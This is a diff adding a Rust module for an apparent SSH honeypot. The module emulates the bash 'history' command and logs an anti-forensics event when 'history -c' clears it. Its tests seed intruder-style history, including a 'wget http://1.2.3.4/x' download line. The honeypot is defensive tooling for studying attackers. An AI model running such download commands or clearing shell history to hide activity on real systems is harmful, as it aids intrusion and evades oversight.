@@ -0,0 +1,134 @@
+use std::fmt::Write;
+
+use async_trait::async_trait;
+use thrussh::ChannelId;
+
+use crate::{
+    audit::AntiForensicsTechnique,
+    command::{Command, CommandResult},
+    server::{ConnectionState, ThrusshSession},
+};
+
+#[derive(Debug, Clone)]
+pub struct History {}
+
+#[async_trait]
+impl Command for History {
+    async fn new<S: ThrusshSession + Send>(
+        connection: &mut ConnectionState,
+        params: &[String],
+        channel: ChannelId,
+        session: &mut S,
+    ) -> CommandResult<Self> {
+        match params.first().map(String::as_str) {
+            Some("-c") => {
+                connection.clear_history();
+                connection
+                    .record_anti_forensics(AntiForensicsTechnique::ClearHistory, Box::new([]));
+                return CommandResult::Exit(0);
+            }
+            // reading and writing the history file, or deleting single entries
+            Some(v) if v.starts_with('-') => return CommandResult::Exit(0),
+            _ => {}
+        }
+
+        let history = connection.history();
+        let count = match params.first().map(|v| (v, v.parse())) {
+            Some((_, Ok(v))) => history.len().min(v),
+            Some((v, Err(_))) => {
+                session.stderr(
+                    channel,
+                    format!("bash: history: {v}: numeric argument required\n").into(),
+                );
+                return CommandResult::Exit(1);
+            }
+            None => history.len(),
+        };
+
+        let out = history.iter().enumerate().skip(history.len() - count).fold(
+            String::new(),
+            |mut out, (i, command)| {
+                let _ = writeln!(out, "{:>5}  {command}", i + 1);
+                out
+            },
+        );
+
+        if !out.is_empty() {
+            session.data(channel, out.into());
+        }
+
+        CommandResult::Exit(0)
+    }
+
+    async fn stdin<S: ThrusshSession + Send>(
+        self,
+        _connection: &mut ConnectionState,
+        _channel: ChannelId,
+        _data: &[u8],
+        _session: &mut S,
+    ) -> CommandResult<Self> {
+        CommandResult::Exit(0)
+    }
+}
+
+#[cfg(test)]
+mod test {
+    use mockall::predicate::always;
+    use test_case::test_case;
+
+    use crate::{
+        audit::{AntiForensicsEvent, AntiForensicsTechnique, AuditLogAction},
+        command::{history::History, Command, CommandResult},
+        server::{
+            test::{fake_channel_id, predicate::eq_string},
+            ConnectionState, MockThrusshSession,
+        },
+    };
+
+    #[test_case(&[], "    1  uname -a\n    2  id\n    3  history\n"; "all")]
+    #[test_case(&["2"], "    2  id\n    3  history\n"; "last")]
+    #[tokio::test]
+    async fn lists(params: &[&str], expected: &'static str) {
+        let mut session = MockThrusshSession::default();
+        let mut state = ConnectionState::mock();
+        state.record_command("uname -a");
+        state.record_command("id");
+        state.record_command("history");
+
+        session
+            .expect_data()
+            .once()
+            .with(always(), eq_string(expected))
+            .returning(|_, _| ());
+
+        let params: Vec<_> = params.iter().map(ToString::to_string).collect();
+        let out = History::new(&mut state, &params, fake_channel_id(), &mut session).await;
+
+        assert!(matches!(out, CommandResult::Exit(0)), "{out:?}");
+    }
+
+    #[tokio::test]
+    async fn clears() {
+        let mut session = MockThrusshSession::default();
+        let mut state = ConnectionState::mock();
+        state.record_command("wget http://1.2.3.4/x");
+
+        let out = History::new(
+            &mut state,
+            &["-c".to_string()],
+            fake_channel_id(),
+            &mut session,
+        )
+        .await;
+
+        assert!(matches!(out, CommandResult::Exit(0)), "{out:?}");
+        assert!(state.history().is_empty());
+        assert!(state.audit_log().events.iter().any(|v| matches!(
+            v.action,
+            AuditLogAction::AntiForensics(AntiForensicsEvent {
+                technique: AntiForensicsTechnique::ClearHistory,
+                ..
+            })
+        )));
+    }
+}